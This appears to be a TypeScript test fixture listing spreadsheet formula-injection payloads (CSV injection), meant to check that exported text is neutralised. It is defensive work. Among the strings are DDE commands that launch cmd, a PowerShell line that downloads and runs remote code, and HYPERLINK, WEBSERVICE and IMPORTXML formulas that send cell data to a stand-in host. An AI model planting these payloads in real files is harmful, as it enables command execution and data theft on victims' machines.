/** What Excel and other spreadsheets take for the beginning of a formula, or have been talked into taking for one (OWASP, CWE-1236). */
const BEGINNINGS = [
  "=",
  "+",
  "-",
  "@",
  "\t=",
  "\r=",
  "\n=",
  " =",
  "＝",
  "＋",
  "－",
  "＠",
  "'=",
  "=-",
  "@=",
  "+=",
  "\u00a0=",
  "%=",
];

/** Calls, links and DDE: what an attacker would have a formula do. */
const DEEDS = [
  "1+1",
  "cmd|' /C calc'!A0",
  "cmd|'/C powershell IEX(wget 0r.pe/p)'!A0",
  'HYPERLINK("http://example.invalid?x="&A1,"Click")',
  'WEBSERVICE("http://example.invalid/"&A1)',
];

/** A hundred texts that must stay texts. */
export const payloads: readonly string[] = [
  ...BEGINNINGS.flatMap((beginning) => DEEDS.map((deed) => beginning + deed)),
  'DDE("cmd";"/C calc";"__DdeLink_60_870787614")',
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!''",
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  '=IMPORTXML(CONCAT("http://example.invalid/",A1),"//a")',
  "{=SUM(A1:A2)}",
  "=IF(1,2,3)",
  "+A1+A2",
  "-A1*2",
  "@SUM(A1:A2)",
];
